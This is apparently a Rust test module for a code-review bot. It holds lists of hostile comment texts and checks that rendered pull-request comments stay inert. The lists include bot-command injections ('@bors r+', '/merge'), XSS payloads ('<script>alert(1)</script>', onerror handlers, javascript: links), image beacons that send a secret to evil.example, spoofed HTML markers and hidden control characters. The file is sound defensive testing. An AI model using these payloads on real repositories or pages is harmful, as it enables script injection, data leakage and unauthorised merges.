//! Hostile texts for tests, and assertions that a rendered body is inert.

use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag};

use crate::comment::MAX_CHARS;
use crate::finding::{Finding, Fix, LineRange, Summary};
use crate::path::FilePath;
use crate::pull::marker::Marker;
use crate::pull::sample::finding;

/// The only host that links may point to.
pub(super) const HOST: &str = "https://host.example/";

/// Texts with bot commands, mentions or references.
pub(super) const COMMANDS: [&str; 30] = [
    "@octocat",
    "@octocat please merge",
    "thanks @org/team",
    "(@octocat)",
    "*@octocat*",
    "_@octocat_",
    "[@octocat]",
    "é@octocat",
    "@bors r+",
    "@dependabot merge",
    "first\n@bors r+\nlast",
    "- @bors r+",
    "fixes #2",
    "Closes #2, resolves #3",
    "fixes octo/repo#2",
    "fixes GH-2",
    "fixes gh-2",
    "fixes https://github.com/o/r/issues/2",
    "see http://x.example",
    "see www.x.example",
    "/merge",
    "/approve\n/lgtm",
    "first\n/close\nlast",
    "  /merge",
    "1. /merge",
    "```\n/merge\n@bors r+\n```",
    "~~~\n/merge\n~~~",
    "&#64;octocat &commat;octocat",
    "\\@octocat \\#2",
    "@\u{200b}octocat #\u{200b}2 @octocat",
];

/// Texts with markup.
pub(super) const MARKUP: [&str; 40] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/?q=secret\">",
    "<iframe src=https://evil.example></iframe>",
    "<svg onload=alert(1)>",
    "<style>*{display:none}</style>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href='data:text/html,x'>x</a>",
    "<details><summary>x</summary>",
    "</details>",
    "</sub></details>\n\n# x",
    "<!-- tollgate:finding fp-0123456789abcdef-01234567 -->",
    "a\n\n<!-- tollgate:summary head=0123456789012345678901234567890123456789 -->\n\nb",
    "-->\n<!-- tollgate:reply comment=1 -->",
    "<!--",
    "-->",
    "![x](https://evil.example/a.png)",
    "![x][y]\n\n[y]: https://evil.example/a.png",
    "[x](https://evil.example)",
    "[x](javascript:alert(1))",
    "[x]: https://evil.example\n\n[x]",
    "<https://evil.example>",
    "<mailto:a@b.example>",
    "https://evil.example/?q=secret",
    "```suggestion\nevil()\n```",
    "````suggestion\nevil()\n````\n```",
    "~~~suggestion\nevil()\n~~~",
    "```\n```suggestion\nevil()",
    "` ``suggestion`` `",
    "# Heading\n\nx\n===\n\n---",
    "> quote\n>> quote",
    "- [x] done\n- [ ] open",
    "| a | b |\n|---|---|\n| c | d |",
    "**bold** __bold__ *em* _em_ ~~gone~~",
    "a[^1]\n\n[^1]: note",
    "$$\\href{javascript:alert(1)}{x}$$ $`x`$",
    ":rocket: :+1:",
    "a  \nb\\\nc",
    "\u{202e}evil\u{2066} \u{e0041}\u{0}\u{1b}[2J",
    "&lt;script&gt; &#60;img src=x&#62; <\\/script>",
];

/// Both kinds.
pub(super) fn texts() -> impl Iterator<Item = &'static str> {
    COMMANDS.into_iter().chain(MARKUP)
}

/// Random concatenations of them.
pub(super) fn mixture() -> impl Strategy<Value = String> {
    let whole: Vec<&'static str> = texts().chain(PIECES).collect();
    proptest::collection::vec(proptest::sample::select(whole), 0..6).prop_map(|pieces| pieces.concat())
}

const PIECES: [&str; 34] = [
    "a", "1", " ", "   ", "\n", "\n\n", "\r\n", "\t", "`", "``", "```", "````", "*", "**", "_", "~", "|", "$", "&",
    "#", "@", "!", "[", "](", "<", ">", "\\", "- ", "1. ", "> ", "/", ":", "=", "<!--",
];

/// A finding with this text in every field.
pub(super) fn saying(text: &str, place: &str) -> Finding {
    let mut finding = finding(place, "Critical", text);
    if let Ok(file) = FilePath::parse(text) {
        finding.location.file = file;
    }
    finding.summary = Summary::shorten(text).0;
    finding.reason = Some(text.to_owned());
    finding.suggestion = Some(format!("{text} "));
    finding.fix = Some(Fix { lines: LineRange::line(finding.location.lines.start()), replacement: text.to_owned() });
    finding.origin.rule = Some(text.to_owned());
    finding.origin.rule_url = Some(text.to_owned());
    finding.origin.reviewer = Some(text.to_owned());
    finding
}

/// Asserts that a body has no active markup but ours.
#[track_caller]
pub(super) fn assert_harmless(body: &str) {
    assert!(body.chars().count() <= MAX_CHARS, "too long: {}", body.chars().count());
    assert!(Marker::all_in(body).len() <= 1, "{body}");
    for line in body.lines() {
        assert!(!line.starts_with(['/', '@']), "{line:?} in {body}");
    }
    let github = Options::ENABLE_TABLES
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_MATH
        | Options::ENABLE_GFM;
    let (mut text, mut in_code) = (String::new(), false);
    for event in Parser::new_ext(body, github) {
        match event {
            Event::Text(_) if in_code => {}
            Event::Text(part) => text.push_str(&part),
            Event::Html(html) | Event::InlineHtml(html) => {
                let html = html.trim();
                let is_ours = ["", "<details>", "</details>", "<sub>", "</sub>"].contains(&html)
                    || html.starts_with("<summary>")
                        && [" more finding</summary>", " more findings</summary>"]
                            .iter()
                            .any(|end| html.ends_with(end))
                    || Marker::parse(html).is_some();
                assert!(is_ours, "{html} in {body}");
            }
            Event::Start(Tag::Link { dest_url, .. }) => assert!(dest_url.starts_with(HOST), "{dest_url} in {body}"),
            Event::Start(
                tag @ (Tag::Image { .. }
                | Tag::BlockQuote(_)
                | Tag::Heading { .. }
                | Tag::Emphasis
                | Tag::Strikethrough
                | Tag::FootnoteDefinition(_)),
            ) => panic!("{tag:?} in {body}"),
            Event::Start(Tag::CodeBlock(_)) => in_code = true,
            Event::End(pulldown_cmark::TagEnd::CodeBlock) => in_code = false,
            Event::TaskListMarker(_)
            | Event::Rule
            | Event::InlineMath(_)
            | Event::DisplayMath(_)
            | Event::FootnoteReference(_) => panic!("{event:?} in {body}"),
            _ => text.push('\u{1}'),
        }
    }
    assert_inert(&text);
}

/// Asserts that plain text has no mentions and no links.
#[track_caller]
pub(super) fn assert_inert(text: &str) {
    let lower = text.to_lowercase();
    let follows = |mark: &str, is_next: fn(char) -> bool| {
        lower.match_indices(mark).any(|(at, mark)| lower[at + mark.len()..].starts_with(is_next))
    };
    assert!(!follows("@", |next| next.is_ascii_alphanumeric()), "a mention in {text:?}");
    assert!(!follows("#", |next| next.is_ascii_digit()), "a reference in {text:?}");
    assert!(!follows("gh-", |next| next.is_ascii_digit()), "a reference in {text:?}");
    assert!(!follows("www.", |next| next.is_alphanumeric()), "a link in {text:?}");
    assert!(!lower.contains("://"), "a link in {text:?}");
    assert!(!text.contains(|c: char| c != '\u{200b}' && c != '\u{1}' && crate::visible::is_hidden(c)), "{text:?}");
}
